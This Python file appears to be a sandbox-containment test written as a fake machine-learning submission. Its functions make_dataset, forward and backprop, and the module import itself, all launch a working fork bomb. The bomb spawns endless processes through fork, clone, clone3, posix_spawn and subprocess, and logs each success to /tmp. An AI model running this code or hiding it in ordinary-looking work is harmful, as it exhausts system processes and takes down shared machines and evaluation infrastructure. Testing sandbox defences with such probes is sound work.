"""Forks without end, by fork, vfork, clone, clone3, posix_spawn and multiprocessing."""
import ctypes
import os
import subprocess
import time


def evidence(what):
    """The attack came off: leave a trace where it must be impossible, and where the report shows it."""
    print("EVIDENCE fork-bomb:", str(what)[:300], flush=True)
    try:
        with open("/tmp/attack-evidence-fork-bomb", "a") as trace:
            trace.write(str(what)[:300] + "\n")
    except OSError:
        pass


LIBC = ctypes.CDLL(None, use_errno=True)


def syscall(number, *args):
    """A system call without libc's wrapper: the result, or minus the error's number."""
    result = LIBC.syscall(ctypes.c_long(number), *(ctypes.c_void_p(a) if isinstance(a, int) else a for a in args))
    return -ctypes.get_errno() if result == -1 else result

NUMBERS = {"x86_64": (57, 58, 56, 435), "aarch64": (220, 220, 220, 435)}[os.uname().machine]


def attack():
    fork, vfork, clone, clone3 = NUMBERS
    for name, act in (
        ("os.fork", os.fork),
        ("fork", lambda: syscall(fork, 17, 0, 0, 0, 0)),
        ("clone", lambda: syscall(clone, 17, 0, 0, 0, 0)),
        ("clone3", lambda: syscall(clone3, (ctypes.c_uint64 * 8)(0, 0, 0, 0, 17), 64)),
        ("spawn", lambda: os.posix_spawn("/bin/sh", ["sh", "-c", "sleep 3600"], {})),
        ("subprocess", lambda: subprocess.Popen(["/bin/sh", "-c", "sleep 3600"]).pid),
    ):
        try:
            pid = act()
        except (OSError, ValueError):
            continue
        if pid == 0:
            while True:
                try:
                    os.fork()
                except OSError:
                    time.sleep(1)
        if pid > 0:
            evidence(f"{name} made {pid}")


def make_dataset(num_points):
    attack()
    return None


def forward(X, params):
    attack()
    return None


def backprop(X, t, params):
    attack()
    return None


attack()
